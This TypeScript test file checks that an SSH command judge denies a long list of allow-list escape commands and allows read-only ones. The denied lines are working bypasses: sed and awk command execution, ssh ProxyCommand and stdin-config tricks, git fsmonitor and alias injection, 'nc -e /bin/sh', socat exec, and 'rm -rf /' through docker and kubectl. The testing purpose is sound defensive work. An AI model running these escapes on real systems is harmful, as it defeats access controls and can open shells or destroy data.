/**
 * The fourth attack on the ssh judge's program tables (#72): a program that takes its commands
 * from its input or terminal is judged as a shell; options are read as each program reads them
 * (GNU's permuting, ssh's second pass after the destination, gawk's optional values); code or
 * configuration read from the input is opaque; `git config` only reads by its action; a tmux
 * list is more than one command. Each line here ran another program for real (the attack's proofs).
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, expect, it } from 'vitest';
import { sshJudgeIn } from '../harness/ssh-judge.js';

const base = mkdtempSync(join(tmpdir(), 'hoop-command-readers-'));
afterAll(() => rmSync(base, { recursive: true, force: true }));
let n = 0;
const judgeOf = (ssh: string) => sshJudgeIn(mkdtempSync(join(base, `r${n++}-`)), ssh);

const PROGRAMS = [
  'sed',
  'git',
  'awk',
  'gawk',
  'find',
  'tar',
  'less',
  'more',
  'man',
  'cat',
  'ls',
  'sort',
  'ssh',
  'scp',
  'sftp',
  'vim',
  'ed',
  'make',
  'tmux',
  'systemctl',
  'wget',
  'kubectl',
  'docker',
  'at',
  'strace',
  'gdb',
  'socat',
  'perf',
  'nc',
  'ncat',
  'tcpdump',
  'ansible',
  'helm',
  'psql',
  'mysql',
  'ip',
  'sudo',
  'crontab',
  'vim.basic',
  'editor',
  'pager',
  'batcat',
];
const ALLOW_LIST = `  default: deny\n  rules:\n    - { name: tools, match: { commands: [${PROGRAMS.map((p) => `"${p} **"`).join(', ')}] }, action: allow }\n`;

it('refuses, under an allow list of the programs, each line the attack ran another program with', async () => {
  const judge = await judgeOf(ALLOW_LIST);
  const ran = [
    "sed p /etc/hostname -e '1e touch /tmp/x'",
    "sed p f --expression='1e touch /tmp/x'",
    'awk -dfoo \'BEGIN{system("touch /tmp/x")}\'',
    'awk -deBEGIN \'BEGIN{system("touch /tmp/x")}\'',
    'gawk -Lfoo \'BEGIN{system("touch /tmp/x")}\'',
    'gawk -D -f /usr/share/awk/ord.awk',
    "ssh localhost -o 'ProxyCommand=touch /tmp/x' true",
    'ssh -o \'"ProxyCommand" touch /tmp/x\' x true',
    'ssh -o \'Proxy"Command" touch /tmp/x\' x true',
    "ssh -o '=ProxyCommand touch /tmp/x' x true",
    'ssh -o XAuthLocation=/tmp/x -X x true',
    'ssh -F /dev/stdin x true',
    'ssh -F /proc/self/fd/0 x true',
    'scp -F /dev/stdin x:/etc/hosts .',
    'man -C /dev/stdin ls',
    'make -f -',
    'make -sf /dev/stdin',
    "git config core.fsmonitor 'touch /tmp/x' list",
    'git config include.path list',
    'git -C repo/.git config --file list core.fsmonitor x',
    'git config -e',
    'git config --edit',
    "tmux list-sessions -F 'x;' new-session -d 'touch /tmp/x'",
    "tmux ls 'x;' new 'id'",
    'vim /etc/hostname',
    'vim -es /etc/hostname',
    'ed -s /etc/hostname',
    'sftp x',
    'sftp -b - x',
    // The fifth attack's (each ran a command for real, but the containers').
    "make '/tmp/lib.a(/etc/hostname)' 'AR=touch /tmp/x;'",
    "git -C false for-each-repo --config=core.bare -- -c 'alias.x=!touch /tmp/x' x",
    'tar -cML10 -f /tmp/a.tar /etc/services',
    'tar --multi-volume --tape-length=10 -cf /tmp/a.tar /etc/services',
    'tar cMLf 10 /tmp/a.tar /etc/services',
    "scp -D /usr/bin/gawk 'BEGIN{system(1)}:x' /tmp/y",
    'git difftool -y --no-index /etc/hostname /etc/hosts',
    'git mergetool -t vimdiff',
    'wget --use-askpass=ed http://127.0.0.1:1/',
    'wget -e use_askpass=ed http://127.0.0.1:1/',
    'kubectl --kubeconfig=/dev/stdin get pods',
    'kubectl --kubeconfig /dev/stdin get pods',
    'kubectl exec -it pod -- sh',
    'kubectl edit deploy x',
    'at -qd now',
    'at now -qd',
    'at -f/dev/stdin now',
    "man -IH'touch /tmp/x' ls",
    'man -aC /dev/stdin ls',
    "man -KP'cmd' ls",
    'tmux -L q -qf a a',
    'tmux -C attach',
    'docker run --rm -v /:/h alpine sh',
    'docker exec c rm -rf /',
    'git pull -s x',
    'git rebase --strategy=x main',
    // The sixth attack's.
    "strace -o '|touch /tmp/x' ls",
    "strace --output='!touch /tmp/x' ls",
    "gdb -batch -ex '!touch /tmp/x'",
    "socat - exec:'touch /tmp/x'",
    'socat - SYSTEM:id',
    'perf stat -- touch /tmp/x',
    'nc -e /bin/sh h 1',
    "ncat --sh-exec 'id' -l 1",
    'tcpdump -z /tmp/x -w f -C 1',
    'ansible all -m shell -a id',
    'helm install x y --post-renderer /tmp/x',
    "psql -c '\\! id'",
    "mysql -e 'system id'",
    'ip -b -',
    'ip netns exec x ls',
    'kubectl -n default exec pod -- rm -rf /',
    'docker compose -f - up',
    'docker build -',
    'sudo -e /etc/hosts',
    'crontab -e',
    'vim.basic f',
    'editor f',
  ];
  expect(ran.filter((line) => judge.decide({ kind: 'exec', command: line }, 'bash').action !== 'deny')).toEqual([]);
  // What reads only stays allowed.
  for (const line of [
    'sed -n p f',
    "sed -e 's/a/b/' f -n",
    "awk -F: '{print $1}' /etc/passwd",
    'ssh -o ConnectTimeout=5 -o BatchMode=yes x uptime',
    'ssh x -l deploy uptime',
    'scp -t -- /tmp/x',
    'sftp -b batch.txt x',
    'git config --get user.name',
    'git config user.name',
    'git config --list --show-origin',
    'git config get user.name',
    'make -j4 -f Makefile build',
    'man -C /etc/man.conf ls',
    'tmux ls',
    'less f',
    'man ls',
    'git log',
    'make build',
    'make -C dir -j4 all',
    'man -a ls',
    'wget -O out.html https://example.com/',
    'kubectl get pods -n x',
    'docker ps -a',
    'at -l',
    'git diff --stat',
    'tar -cf a.tar dir',
    'strace -o trace.txt ls',
    'socat - TCP:127.0.0.1:1',
    'perf list',
    'nc -z h 1',
    'tcpdump -c 1 -w f',
    'ip -br a',
    'sudo -n ls',
    'crontab -l',
  ])
    expect(judge.decide({ kind: 'exec', command: line }, 'bash').action, line).toBe('allow');
});

it('judges a program that takes commands from its input or terminal as a shell: allowed where a shell is', async () => {
  const allowList = await judgeOf(ALLOW_LIST);
  // With a terminal (`ssh -t`), a pager's `!cmd` runs a command: less, man, git's pager, systemctl's.
  for (const line of ['less /etc/hostname', 'man ls', 'git log', 'systemctl status x', 'vim f', 'cat f | less', 'pager f', 'batcat f', 'perf list']) {
    const verdict = allowList.decide({ kind: 'exec', command: line, terminal: true }, 'bash');
    expect(verdict.action, line).toBe('deny');
    expect(verdict.reason).toMatch(/is judged as a shell: .*no ssh rule matches.*the default is deny/);
  }
  expect(allowList.decide({ kind: 'exec', command: 'ls -l', terminal: true }, 'bash').action).toBe('allow');
  // Where a shell is allowed (a rule naming no commands), so is the editor; a deny rule on its words still refuses it.
  const shells = await judgeOf(
    `  default: deny\n  rules:\n    - { name: engineers, match: { subjects: [alice] }, action: allow }\n    - { name: no-shadow, match: { patterns: ['/etc/shadow'] }, action: deny }\n`,
  );
  expect(shells.decide({ kind: 'exec', command: 'vim f', terminal: true }, 'bash').action).toBe('allow');
  expect(shells.decide({ kind: 'exec', command: 'less /etc/shadow', terminal: true }, 'bash')).toMatchObject({ action: 'deny', rule: 'no-shadow' });
  const reviewed = await judgeOf(`  default: allow\n  rules:\n    - { name: shells, match: { shell: true }, action: review }\n`);
  expect(reviewed.decide({ kind: 'exec', command: 'ed f' }, 'bash').action).toBe('review');
  expect(reviewed.decide({ kind: 'exec', command: 'cat f' }, 'bash').action).toBe('allow');
});
